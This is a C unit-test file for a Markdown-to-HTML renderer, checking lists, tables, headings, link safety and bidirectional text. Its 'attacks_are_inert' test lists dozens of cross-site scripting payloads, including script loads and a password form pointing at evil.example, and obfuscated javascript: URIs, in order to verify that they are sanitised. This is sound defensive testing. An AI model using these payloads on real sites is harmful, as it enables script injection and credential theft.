#include "arena_fixture.h"

#include "../html_flaw.h"
#include "buffer.h"
#include "markdown.h"
#include "markdown_html.h"

/* A text and its HTML. */
struct row {
	const char *text, *html;
};

static void
check_rows(const struct row *rows, size_t count, unsigned flags)
{
	for (size_t i = 0; i < count; i++)
		assert_string_equal(markdown_html(arena, rows[i].text, flags), rows[i].html);
}

static struct buffer
repeat(struct buffer text, const char *unit, size_t times)
{
	while (times-- > 0)
		buffer_add_text(&text, unit);
	return text;
}

TEST(markdown_becomes_html)
{
	static const struct row rows[] = {
	    {"", ""},
	    {"\n\n", ""},
	    {"a\nb", "<p>a\nb</p>\n"},
	    {"a\n\nb", "<p>a</p>\n<p>b</p>\n"},
	    {"a  \nb\\\nc", "<p>a<br>\nb<br>\nc</p>\n"},
	    {"*a* _b_ **c** ~~d~~ `e`",
	     "<p><em>a</em> <em>b</em> <strong>c</strong> <del>d</del> <code>e</code></p>\n"},
	    {"> a\n\nb", "<blockquote>\n<p>a</p>\n</blockquote>\n<p>b</p>\n"},
	    {"a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n"},
	    {"- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"},
	    {"- a\n\n- b", "<ul>\n<li><p>a</p>\n</li>\n<li><p>b</p>\n</li>\n</ul>\n"},
	    {"- a\n  - b", "<ul>\n<li>a<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>\n"},
	    {"1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"},
	    {"7) a", "<ol start=\"7\">\n<li>a</li>\n</ol>\n"},
	    {"- [x] a\n- [ ] b",
	     "<ul>\n<li class=\"task\"><label><input type=\"checkbox\" checked disabled> a</label></li>\n"
	     "<li class=\"task\"><label><input type=\"checkbox\" disabled> b</label></li>\n</ul>\n"},
	    {"    a\n", "<pre tabindex=\"0\"><code>a\n</code></pre>\n"},
	    {"|a|b|c||\n|:-|:-:|-:|-|\n|1|2|3|4|",
	     "<div class=\"table\" tabindex=\"0\"><table>\n<thead>\n<tr><th scope=\"col\" align=\"left\">a</th>"
	     "<th scope=\"col\" align=\"center\">b</th><th scope=\"col\" "
	     "align=\"right\">c</th><td></td></tr>\n</thead>\n"
	     "<tbody>\n<tr><td align=\"left\">1</td><td align=\"center\">2</td><td "
	     "align=\"right\">3</td><td>4</td></tr>\n"
	     "</tbody>\n</table></div>\n"},
	    {"|a|\n|-|\n",
	     "<div class=\"table\" tabindex=\"0\"><table>\n<thead>\n<tr><th scope=\"col\">a</th></tr>\n</thead>\n"
	     "</table></div>\n"},
	    {"&copy; &amp; \\* \" '", "<p>© &amp; * &quot; &#39;</p>\n"},
	    {"a\x01\x7F", "<p>a\uFFFD\x7F</p>\n"},
	    {"a[^1]\n\n[^1]: b", "<p>a<a href=\"b\">^1</a></p>\n"},
	};

	check_rows(rows, COUNT_OF(rows), 0);
}

TEST(languages_of_code_become_classes)
{
	static const struct row rows[] = {
	    {"```c\n<a>\n```", "<pre tabindex=\"0\"><code class=\"language-c\">&lt;a&gt;\n</code></pre>\n"},
	    {"~~~ objective-c++ x y\n", "<pre tabindex=\"0\"><code class=\"language-objective-c++\"></code></pre>\n"},
	    {"```F#_2.0\n", "<pre tabindex=\"0\"><code class=\"language-F#_2.0\"></code></pre>\n"},
	    {"``` \n", "<pre tabindex=\"0\"><code></code></pre>\n"},
	    {"```c\"onclick=\n", "<pre tabindex=\"0\"><code></code></pre>\n"},
	    {"```é\n", "<pre tabindex=\"0\"><code></code></pre>\n"},
	};

	check_rows(rows, COUNT_OF(rows), 0);
}

TEST(raw_html_is_shown)
{
	static const struct row rows[] = {
	    {"a <b>c</b>", "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"},
	    {"<div class='x'>\n*a*\n</div>", "<p>&lt;div class=&#39;x&#39;&gt;\n*a*\n&lt;/div&gt;\n</p>\n"},
	    {"<!-- a -->", "<p>&lt;!-- a --&gt;\n</p>\n"},
	    {"a <!-- b --> <?c?> <![CDATA[d]]>", "<p>a &lt;!-- b --&gt; &lt;?c?&gt; &lt;![CDATA[d]]&gt;</p>\n"},
	    {"<script>\n\nalert(1)\n</script>", "<p>&lt;script&gt;\n\nalert(1)\n&lt;/script&gt;\n</p>\n"},
	};

	check_rows(rows, COUNT_OF(rows), 0);
}

TEST(links_lead_to_safe_places)
{
	static const struct row rows[] = {
	    {"[a](http://b)", "<p><a href=\"http://b\" rel=\"noopener\">a</a></p>\n"},
	    {"[a](HTTPS://b?c=d&e#f)", "<p><a href=\"HTTPS://b?c=d&amp;e#f\" rel=\"noopener\">a</a></p>\n"},
	    {"[a](//b/c)", "<p><a href=\"//b/c\" rel=\"noopener\">a</a></p>\n"},
	    {"[a](///b)", "<p><a href=\"///b\" rel=\"noopener\">a</a></p>\n"},
	    {"[a](mailto:b@c)", "<p><a href=\"mailto:b@c\">a</a></p>\n"},
	    {"[a](/b/c?d=:#e)", "<p><a href=\"/b/c?d=:#e\">a</a></p>\n"},
	    {"[a](b:c)", "<p>a</p>\n"},
	    {"[a](./b:c)", "<p><a href=\"./b:c\">a</a></p>\n"},
	    {"[a](#b)", "<p><a href=\"#b\">a</a></p>\n"},
	    {"[a]()", "<p><a href=\"\">a</a></p>\n"},
	    {"[a](/b \"c\\\"d<\")", "<p><a href=\"/b\" title=\"c&quot;d&lt;\">a</a></p>\n"},
	    {"[a](</b c\"d'>)", "<p><a href=\"/b%20c%22d&#39;\">a</a></p>\n"},
	    {"[a](/é%20%)", "<p><a href=\"/%C3%A9%20%\">a</a></p>\n"},
	    {"[](/b)", "<p><a href=\"/b\">/b</a></p>\n"},
	    {"[*a*](javascript:b)", "<p><em>a</em></p>\n"},
	    {"[a](ftp://b)", "<p>a</p>\n"},
	    {"[a](/\\\\b)", "<p><a href=\"/%5Cb\">a</a></p>\n"},
	    {"[a](\\\\\\\\b)", "<p><a href=\"%5C%5Cb\">a</a></p>\n"},
	    {"[a](/&#9;/b)", "<p>a</p>\n"},
	    {"[a](/&NewLine;/b)", "<p>a</p>\n"},
	    {"[a](&#127;//b)", "<p>a</p>\n"},
	    {"[a](</ /b>)", "<p><a href=\"/%20/b\">a</a></p>\n"},
	    {"<https://a>", "<p><a href=\"https://a\" rel=\"noopener\">https://a</a></p>\n"},
	    {"<javascript:a>", "<p>javascript:a</p>\n"},
	    {"www.a.b", "<p><a href=\"http://www.a.b\" rel=\"noopener\">www.a.b</a></p>\n"},
	    {"https://a.b/c_d.", "<p><a href=\"https://a.b/c_d\" rel=\"noopener\">https://a.b/c_d</a>.</p>\n"},
	    {"a@b.c", "<p><a href=\"mailto:a@b.c\">a@b.c</a></p>\n"},
	    {"ftp://a.b", "<p>ftp://a.b</p>\n"},
	    {"[a]\n\n[a]: data:b", "<p>a</p>\n"},
	};
	static const struct row comments[] = {
	    {"[a](https://b)", "<p><a href=\"https://b\" rel=\"nofollow ugc noopener\">a</a></p>\n"},
	    {"[a](//b)", "<p><a href=\"//b\" rel=\"nofollow ugc noopener\">a</a></p>\n"},
	    {"www.a.b", "<p><a href=\"http://www.a.b\" rel=\"nofollow ugc noopener\">www.a.b</a></p>\n"},
	    {"[a](/b)", "<p><a href=\"/b\">a</a></p>\n"},
	};

	check_rows(rows, COUNT_OF(rows), 0);
	check_rows(comments, COUNT_OF(comments), MARKDOWN_UGC);
}

TEST(images_come_from_safe_places)
{
#define AND_SO_ON " loading=\"lazy\" referrerpolicy=\"no-referrer\" decoding=\"async\"></p>\n"
	static const struct row rows[] = {
	    {"![a *b* `c`\nd](/e)", "<p><img src=\"/e\" alt=\"a b c d\"" AND_SO_ON},
	    {"![a](https://b/c?d&e \"f\")", "<p><img src=\"https://b/c?d&amp;e\" alt=\"a\" title=\"f\"" AND_SO_ON},
	    {"![\"<b>](http://c)", "<p><img src=\"http://c\" alt=\"&quot;&lt;b&gt;\"" AND_SO_ON},
	    {"![a ![b](/c) [d](/e)](/f)", "<p><img src=\"/f\" alt=\"a b d\"" AND_SO_ON},
	    {"![](/a)", "<p><img src=\"/a\" alt=\"\"" AND_SO_ON},
	    {"![a]()", "<p>a</p>\n"},
	    {"![a](data:image/png;base64,b)", "<p>a</p>\n"},
	    {"![a](mailto:b@c)", "<p>a</p>\n"},
	    {"![*a*](javascript:b)", "<p><em>a</em></p>\n"},
	};
#undef AND_SO_ON

	check_rows(rows, COUNT_OF(rows), 0);
}

TEST(headings_have_anchors)
{
	static const struct row rows[] = {
	    {"# A", "<h2 id=\"section-a\">A</h2>\n"},
	    {"a\n-", "<h2 id=\"section-a\">a</h2>\n"},
	    {"##### A\n###### A", "<h2 id=\"section-a\">A</h2>\n<h3 id=\"section-a-2\">A</h3>\n"},
	    {"## A\n#### B\n### C\n## D\n# E\n###### F",
	     "<h2 id=\"section-a\">A</h2>\n<h3 id=\"section-b\">B</h3>\n<h3 id=\"section-c\">C</h3>\n"
	     "<h2 id=\"section-d\">D</h2>\n<h2 id=\"section-e\">E</h2>\n<h3 id=\"section-f\">F</h3>\n"},
	    {"# A\n## A\n### A\n#### A\n##### A\n###### A",
	     "<h2 id=\"section-a\">A</h2>\n<h3 id=\"section-a-2\">A</h3>\n<h4 id=\"section-a-3\">A</h4>\n"
	     "<h5 id=\"section-a-4\">A</h5>\n<h6 id=\"section-a-5\">A</h6>\n<h6 id=\"section-a-6\">A</h6>\n"},
	    {"# a\n# a-2\n# a\n# a",
	     "<h2 id=\"section-a\">a</h2>\n<h2 id=\"section-a-2\">a-2</h2>\n<h2 id=\"section-a-3\">a</h2>\n"
	     "<h2 id=\"section-a-4\">a</h2>\n"},
	    {"# *A* [b `C`](/d) \"E\"!",
	     "<h2 id=\"section-a-b-c-e\"><em>A</em> <a href=\"/d\">b <code>C</code></a> &quot;E&quot;!</h2>\n"},
	    {"# Über Ähren", "<h2 id=\"section-über-ähren\">Über Ähren</h2>\n"},
	    {"# 日本 2024", "<h2 id=\"section-日本-2024\">日本 2024</h2>\n"},
	    {"# हिन्दी", "<h2 id=\"section-हिन्दी\">हिन्दी</h2>\n"},
	    {"# ?\n# !", "<h2 id=\"section\">?</h2>\n<h2 id=\"section-2\">!</h2>\n"},
	    {"#\n", ""},
	};
	static const struct row comments[] = {{"# A\n### A", "<h3>A</h3>\n<h4>A</h4>\n"}};

	check_rows(rows, COUNT_OF(rows), 0);
	check_rows(comments, COUNT_OF(comments), MARKDOWN_UGC);
}

TEST(headings_beyond_the_bound_have_no_anchors)
{
	const char *html = markdown_html(arena, repeat(buffer_in(arena), "# a\n", MARKDOWN_ANCHORS_MAX + 1).data, 0);
	char last[64];

	snprintf(last, sizeof last, "<h2 id=\"section-a-%d\">a</h2>\n<h2>a</h2>\n", MARKDOWN_ANCHORS_MAX);
	assert_string_equal(html + strlen(html) - strlen(last), last);
	assert_null(html_flaw(html));
}

/* The first letter of all decides for the element around, which has dir="auto". */
TEST(what_runs_the_other_way_says_so)
{
	static const struct row rows[] = {
	    {"א", "<p>א</p>\n"},
	    {"a\n\nא a\n\nb", "<p>a</p>\n<p dir=\"rtl\">א a</p>\n<p>b</p>\n"},
	    {"1 ا\n\na", "<p>1 ا</p>\n<p dir=\"ltr\">a</p>\n"},
	    {"א `a`", "<p>א <code dir=\"ltr\">a</code></p>\n"},
	    {"א *a `b`*", "<p>א <em>a <code dir=\"ltr\">b</code></em></p>\n"},
	    {"א\n\n    a", "<p>א</p>\n<pre dir=\"ltr\" tabindex=\"0\"><code>a\n</code></pre>\n"},
	    {"a\n\n> א\n>\n> 1", "<p>a</p>\n<blockquote dir=\"rtl\">\n<p>א</p>\n<p>1</p>\n</blockquote>\n"},
	    {"a\n\n- א\n- b\n", "<p>a</p>\n<ul dir=\"rtl\">\n<li>א</li>\n<li dir=\"ltr\">b</li>\n</ul>\n"},
	    {"a\n\n# א", "<p>a</p>\n<h2 dir=\"rtl\" id=\"section-א\">א</h2>\n"},
	};

	check_rows(rows, COUNT_OF(rows), 0);
}

TEST(attacks_are_inert)
{
	static const char *const attacks[] = {
	    "<script>alert(1)</script>",
	    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
	    "<scr\nipt>alert(1)</scr\nipt>",
	    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
	    "<SCRIPT/XSS SRC=\"https://evil.example/x.js\"></SCRIPT>",
	    "<img src=x onerror=alert(1)>",
	    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
	    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
	    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
	    "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">",
	    "<svg/onload=alert(1)>",
	    "<svg><script>alert&#40;1)</script>",
	    "<body onload=alert(1)>",
	    "<iframe src=javascript:alert(1)></iframe>",
	    "<object data=javascript:alert(1)>",
	    "<base href=https://evil.example/>",
	    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
	    "<link rel=stylesheet href=https://evil.example/x.css>",
	    "<style>@import 'https://evil.example/x.css';</style>",
	    "<form action=https://evil.example/><input name=password>",
	    "<details open ontoggle=alert(1)>",
	    "<a href=javascript:alert(1)>a</a>",
	    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
	    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	    "<![CDATA[<script>alert(1)</script>]]>",
	    "<?xml version=1?><script>alert(1)</script>",
	    "</p></div></article><script>alert(1)</script>",
	    "</textarea><script>alert(1)</script>",
	    "\"><script>alert(1)</script>",
	    "' onmouseover='alert(1)",
	    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+alert(1)//'>",
	    "{{constructor.constructor('alert(1)')()}}",
	    "[a](javascript:alert(1))",
	    "[a](JaVaScRiPt:alert(1))",
	    "[a]( javascript:alert(1) )",
	    "[a](<javascript:alert(1)>)",
	    "[a](<java\tscript:alert(1)>)",
	    "[a](java&Tab;script:alert(1))",
	    "[a](java&NewLine;script:alert(1))",
	    "[a](&#x1;javascript:alert(1))",
	    "[a](javascript&colon;alert(1))",
	    "[a](&#106;&#x61;vascript:alert(1))",
	    "[a](\\javascript:alert(1))",
	    "[a](javascript\\:alert(1))",
	    "[a](vbscript:msgbox(1))",
	    "[a](livescript:alert(1))",
	    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	    "[a](view-source:javascript:alert(1))",
	    "[a](feed:javascript:alert(1))",
	    "[a](jar:javascript:alert(1)!/)",
	    "[a](file:///etc/passwd)",
	    "[a](blob:https://example.com/x)",
	    "[a](/x\"onmouseover=\"alert(1))",
	    "[a](</x\" onmouseover=\"alert(1)>)",
	    "[a](/x 'b\" onmouseover=\"alert(1)')",
	    "[a](/x \"&quot; onmouseover=alert(1) &quot;\")",
	    "[a]\n\n[a]: javascript:alert(1)",
	    "[a]\n\n[a]: <java\tscript:alert(1)>",
	    "[<script>alert(1)</script>](/x)",
	    "![a](javascript:alert(1))",
	    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
	    "![\" onerror=\"alert(1)](x)",
	    "![a](x\"onerror=\"alert(1))",
	    "![a](/x \"b\\\" onerror=\\\"alert(1)\")",
	    "![<img src=x onerror=alert(1)>](/x)",
	    "![[a](javascript:alert(1))](/x)",
	    "<javascript:alert(1)>",
	    "<data:text/html,<script>alert(1)</script>>",
	    "<https://a\"onmouseover=\"alert(1)>",
	    "<https://a/\\\"onmouseover=alert(1)>",
	    "https://a/\"onmouseover=alert(1)//",
	    "www.a.b/\"onmouseover=alert(1)//",
	    "www.a.b/<script>alert(1)</script>",
	    "a@b.c\"onmouseover=alert(1)",
	    "xmpp:a@b.c/\"onmouseover=alert(1)",
	    "```\"onmouseover=alert(1)\na",
	    "```\n</code></pre><script>alert(1)</script>\n```",
	    "`</code><script>alert(1)</script>`",
	    "# a\"onmouseover=\"alert(1)",
	    "# <script>alert(1)</script>",
	    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
	    "- [x] <script>alert(1)</script>",
	    "&lt;script&gt;alert(1)&lt;/script&gt;",
	    "&#60;script&#62;alert(1)&#60;/script&#62;",
	    "&amp;lt;script&amp;gt;",
	    "\xEF\xBC\x9Cscript\xEF\xBC\x9E",
	    "\u202E<script>\u2066alert(1)",
	    "a\x01<script>\x0B\x0C\x1B",
	};

	for (size_t i = 0; i < COUNT_OF(attacks); i++) {
		for (unsigned flags = 0; flags <= MARKDOWN_UGC; flags++) {
			const char *html = markdown_html(arena, attacks[i], flags);
			const char *flaw = html_flaw(html);
			if (flaw != NULL)
				fail_msg("%s: %s\n%s", flaw, attacks[i], html);
		}
	}
}

/* What would tell a flaw of the HTML from none. */
TEST(flaws_are_found)
{
	static const char *const flawed[] = {
	    "a > b",
	    "a & b",
	    "&nbsp;",
	    "<script>",
	    "<p>",
	    "</p>",
	    "<p><em></p></em>",
	    "<p onclick=\"a\"></p>",
	    "<p id=a></p>",
	    "<p id=\"a></p>",
	    "<p id=\"a\"b></p>",
	    "<a href=\"javascript:a\"></a>",
	    "<a href=\"java\tscript:a\"></a>",
	    "<a href=\"/\\a\"></a>",
	    "<img src=\"mailto:a\">",
	    "<img src=\"data:a\">",
	    "\x01",
	};

	for (size_t i = 0; i < COUNT_OF(flawed); i++)
		assert_non_null(html_flaw(flawed[i]));
	assert_null(html_flaw("<p dir=\"rtl\"><a href=\"/a:b\">&lt;<br></a></p>\n<hr>"));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(markdown_becomes_html),
	    cmocka_unit_test(languages_of_code_become_classes),
	    cmocka_unit_test(raw_html_is_shown),
	    cmocka_unit_test(links_lead_to_safe_places),
	    cmocka_unit_test(images_come_from_safe_places),
	    cmocka_unit_test(headings_have_anchors),
	    cmocka_unit_test(headings_beyond_the_bound_have_no_anchors),
	    cmocka_unit_test(what_runs_the_other_way_says_so),
	    cmocka_unit_test(attacks_are_inert),
	    cmocka_unit_test(flaws_are_found),
	};
	return cmocka_run_group_tests(tests, start, stop);
}
